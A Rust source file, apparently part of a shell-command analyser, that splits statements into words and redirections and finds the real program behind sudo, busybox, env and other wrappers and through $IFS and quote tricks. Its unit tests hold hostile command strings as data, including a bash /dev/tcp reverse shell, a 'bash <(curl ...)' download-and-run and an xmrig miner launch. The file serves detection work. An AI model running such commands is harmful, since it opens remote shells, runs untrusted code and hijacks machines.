//! One statement as words: which program it runs, with what, and where its output goes.

use std::borrow::Cow;

use crate::construct::{construct_end, opens_construct};

/// A statement's words and redirections, as written.
#[derive(Debug)]
pub struct Statement<'a> {
    words: Vec<&'a str>,
    redirects: Vec<Redirect<'a>>,
    /// The word that names the program, behind assignments, keywords and wrappers.
    program: usize,
}

/// A redirection: `2>` and `/dev/null`.
#[derive(Clone, Copy, Debug)]
pub struct Redirect<'a> {
    /// As `2>`, with the number before it.
    pub operator: &'a str,
    /// The word behind it, as written; empty when there is none.
    pub target: &'a str,
}

impl Redirect<'_> {
    /// `Some(true)` when standard output is appended to the target, `Some(false)` when it
    /// replaces it, `None` for every other redirection.
    pub fn appends(&self) -> Option<bool> {
        let bare = self.operator.trim_start_matches(['1', '&']);
        match bare {
            ">>" => Some(true),
            ">" | ">|" => Some(false),
            ">&" => (!self.target.starts_with(|c: char| c.is_ascii_digit() || c == '-'))
                .then_some(false),
            _ => None,
        }
    }
}

impl<'a> Statement<'a> {
    /// Reads a statement, as [`Piece::head`](crate::Piece::head) gives it.
    pub fn parse(text: &'a str) -> Self {
        let mut statement = Self { words: Vec::new(), redirects: Vec::new(), program: 0 };
        let mut words = Words::new(text);
        while let Some(word) = words.next() {
            if word.is_redirect {
                let target = words.next().filter(|word| !word.is_redirect);
                let target = target.map_or("", |word| word.text);
                statement.redirects.push(Redirect { operator: word.text, target });
            } else {
                statement.words.push(word.text);
            }
        }
        statement.program = program_index(&statement.words);
        statement
    }

    /// The program's name without path and quotes; empty when there is none.
    pub fn name(&self) -> Cow<'a, str> {
        base_name(unquote(self.program_word()))
    }

    /// The program as written.
    pub fn program_word(&self) -> &'a str {
        self.words.get(self.program).copied().unwrap_or_default()
    }

    /// The words before the program: assignments, keywords and wrappers.
    pub fn prefixes(&self) -> &[&'a str] {
        self.words.get(..self.program).unwrap_or_default()
    }

    /// The words behind the program, as written.
    pub fn arguments(&self) -> &[&'a str] {
        self.words.get(self.program + 1..).unwrap_or_default()
    }

    /// The redirections, in order.
    pub fn redirects(&self) -> &[Redirect<'a>] {
        &self.redirects
    }

    /// The texts that the program would run as commands: the words with a blank in them, unquoted,
    /// of a shell, `eval` or `su`.
    pub fn commands_inside(&self) -> impl Iterator<Item = Cow<'a, str>> {
        let words = if self.runs_text() { self.arguments() } else { &[] };
        words.iter().filter(|word| word.contains(' ')).map(|word| unquote(word))
    }

    /// Whether the program runs text that it is given as commands.
    pub fn runs_text(&self) -> bool {
        let name = self.name();
        is_shell(&name) || matches!(&*name, "eval" | "su")
    }

    /// The first redirection of standard output to a file, and whether it appends.
    pub fn output(&self) -> Option<(Redirect<'a>, bool)> {
        self.redirects.iter().find_map(|to| Some((*to, to.appends()?)))
    }
}

/// Whether a program of this name, without path, reads commands from standard input, a file or `-c`.
pub fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "csh" | "tcsh" | "hush" | "$SHELL"
    )
}

fn base_name(word: Cow<'_, str>) -> Cow<'_, str> {
    match word {
        Cow::Borrowed(text) => Cow::Borrowed(text.rsplit('/').next().unwrap_or_default()),
        Cow::Owned(text) => Cow::Owned(text.rsplit('/').next().unwrap_or_default().to_owned()),
    }
}

/// Skips `X=1`, `do`, `sudo -u root`, `timeout 5`, `/bin/busybox` and the like.
fn program_index(words: &[&str]) -> usize {
    let mut at = 0;
    let mut wrapped_by = String::new();
    while let Some(word) = words.get(at) {
        let name = base_name(unquote(word));
        let skips_option = !wrapped_by.is_empty()
            && (word.starts_with('-') || word.bytes().all(|byte| byte.is_ascii_digit()));
        if is_assignment(word) || is_keyword(&name) || skips_option {
            let takes_value = wrapped_by == "sudo" && matches!(*word, "-u" | "-g");
            at += 1 + usize::from(takes_value);
        } else if is_wrapper(&name) && words.len() > at + 1 {
            wrapped_by.clear();
            wrapped_by.push_str(&name);
            at += 1;
        } else {
            break;
        }
    }
    at
}

fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else { return false };
    !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

fn is_keyword(name: &str) -> bool {
    matches!(name, "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "{" | "time")
}

fn is_wrapper(name: &str) -> bool {
    matches!(
        name,
        "busybox"
            | "sudo"
            | "doas"
            | "env"
            | "nohup"
            | "exec"
            | "command"
            | "builtin"
            | "nice"
            | "ionice"
            | "setsid"
            | "timeout"
            | "stdbuf"
            | "xargs"
            | "toybox"
    )
}

/// One word of a statement and where in the statement it begins.
#[derive(Clone, Copy, Debug)]
pub struct Word<'a> {
    /// As written.
    pub text: &'a str,
    /// Where in the statement it begins, in bytes.
    pub at: usize,
    /// Whether it is the operator of a redirection.
    pub is_redirect: bool,
}

/// The words of a statement; redirection operators are words of their own.
#[derive(Debug)]
pub struct Words<'a> {
    text: &'a str,
    at: usize,
    quotes_close: bool,
}

impl<'a> Words<'a> {
    /// Begins at the front of a statement.
    pub fn new(text: &'a str) -> Self {
        Self { text, at: 0, quotes_close: true }
    }

    fn byte(&self, at: usize) -> u8 {
        self.text.as_bytes().get(at).copied().unwrap_or_default()
    }

    /// The length of the space that stands here; `$IFS` is space in disguise.
    fn space_length(&self) -> usize {
        match self.byte(self.at) {
            b'$' => {
                let rest = self.text.get(self.at..).unwrap_or_default();
                let disguise = ["${IFS}", "$IFS"].iter().find(|space| rest.starts_with(**space));
                disguise.map_or(0, |space| space.len())
            }
            byte => usize::from(byte.is_ascii_whitespace()),
        }
    }

    fn word(&self, start: usize, is_redirect: bool) -> Word<'a> {
        Word { text: self.text.get(start..self.at).unwrap_or_default(), at: start, is_redirect }
    }

    /// Moves past `>`, `>>`, `>&`, `<<<`, `<<-` and the like.
    fn skip_operator(&mut self) {
        let start = self.at;
        while matches!(self.byte(self.at), b'<' | b'>') {
            self.at += 1;
        }
        let is_heredoc = self.text.get(start..self.at) == Some("<<");
        match self.byte(self.at) {
            b'&' | b'|' => self.at += 1,
            b'-' if is_heredoc => self.at += 1,
            _ => {}
        }
    }

    /// Moves past one character or quoted part of a word; false when the word ends here.
    fn advance(&mut self) -> bool {
        let (byte, next) = (self.byte(self.at), self.byte(self.at + 1));
        if byte == b'\\' {
            self.at = (self.at + 2).min(self.text.len());
        } else if self.quotes_close && opens_construct(byte, next) {
            let end = construct_end(self.text.as_bytes(), self.at);
            self.quotes_close = end.is_some();
            self.at = end.unwrap_or(self.at + 1);
        } else if self.space_length() > 0 || matches!(byte, b'<' | b'>') {
            return false;
        } else {
            self.at += 1;
        }
        true
    }
}

impl<'a> Iterator for Words<'a> {
    type Item = Word<'a>;

    fn next(&mut self) -> Option<Word<'a>> {
        while let length @ 1.. = self.space_length() {
            self.at += length;
        }
        let start = self.at;
        if start >= self.text.len() {
            return None;
        }
        while self.at < self.text.len() && self.advance() {}
        let before = self.text.get(start..self.at).unwrap_or_default();
        let is_descriptor = before.bytes().all(|byte| byte.is_ascii_digit() || byte == b'&');
        if is_descriptor && matches!(self.byte(self.at), b'<' | b'>') {
            self.skip_operator();
            return Some(self.word(start, true));
        }
        Some(self.word(start, false))
    }
}

/// The word without its quotes and backslashes.
pub fn unquote(word: &str) -> Cow<'_, str> {
    if !word.bytes().any(|byte| matches!(byte, b'\'' | b'"' | b'\\')) {
        return Cow::Borrowed(word);
    }
    let mut plain = String::with_capacity(word.len());
    let mut quote = None;
    let mut characters = word.chars().peekable();
    while let Some(character) = characters.next() {
        match (quote, character) {
            (None, '\'' | '"') => quote = Some(character),
            (Some(open), _) if open == character => quote = None,
            (None, '\\') => plain.extend(characters.next()),
            (Some('"'), '\\') => {
                match characters.next_if(|c| matches!(c, '"' | '\\' | '$' | '`')) {
                    Some(escaped) => plain.push(escaped),
                    None => plain.push('\\'),
                }
            }
            _ => plain.push(character),
        }
    }
    Cow::Owned(plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, name: &str, arguments: &[&str], output: Option<(&str, bool)>) {
        let statement = Statement::parse(text);
        assert_eq!(statement.name(), name);
        assert_eq!(statement.arguments(), arguments);
        assert_eq!(statement.output().map(|(to, appends)| (to.target, appends)), output);
    }

    #[test]
    fn reads_words_and_redirections() {
        check("echo a 'b c'>>f", "echo", &["a", "'b c'"], Some(("f", true)));
        check("echo a 2>/dev/null >> f", "echo", &["a"], Some(("f", true)));
        check("cat x 2>&1 1>y", "cat", &["x"], Some(("y", false)));
        check("cat <<< 'x' <<E", "cat", &[], None);
        check("w &>/dev/null", "w", &[], Some(("/dev/null", false)));
        check("bash -i >& /dev/tcp/x/1 0>&1", "bash", &["-i"], Some(("/dev/tcp/x/1", false)));
        check("bash <(curl x) y", "bash", &["<(curl x)", "y"], None);
        check(">f", "", &[], Some(("f", false)));
        check("echo a2>f", "echo", &["a2"], Some(("f", false)));
        check("echo <( x", "echo", &["<(", "x"], None);
        check("", "", &[], None);
    }

    #[test]
    fn looks_behind_wrappers() {
        check("X=1 sudo -u root /bin/busybox wget u", "wget", &["u"], None);
        check("do nohup timeout 5 ./x", "x", &[], None);
        check("/bin/busybox", "busybox", &[], None);
        check("env A=b 'wg'et", "wget", &[], None);
        check("nice -n 10 xmrig", "xmrig", &[], None);
        check("wget${IFS}-q$IFS'u'", "wget", &["-q", "'u'"], None);
    }

    #[test]
    fn finds_commands_inside() {
        for (text, expected) in [
            ("/bin/sh -c 'cd /tmp; id' x", &["cd /tmp; id"][..]),
            ("sudo su - root -c \"a b\"", &["a b"]),
            ("eval 'a b' \"c d\"", &["a b", "c d"]),
            ("echo 'a b'", &[]),
        ] {
            let statement = Statement::parse(text);
            assert_eq!(statement.commands_inside().collect::<Vec<_>>(), expected, "{text}");
        }
    }

    #[test]
    fn takes_quotes_off() {
        for (word, plain) in [
            ("a", "a"),
            ("'a b'", "a b"),
            ("\"a \\\" $x\\n\"", "a \" $x\\n"),
            ("w'g'\"e\"\\t", "wget"),
            ("'open", "open"),
            ("\\", ""),
        ] {
            assert_eq!(unquote(word), plain);
        }
    }
}
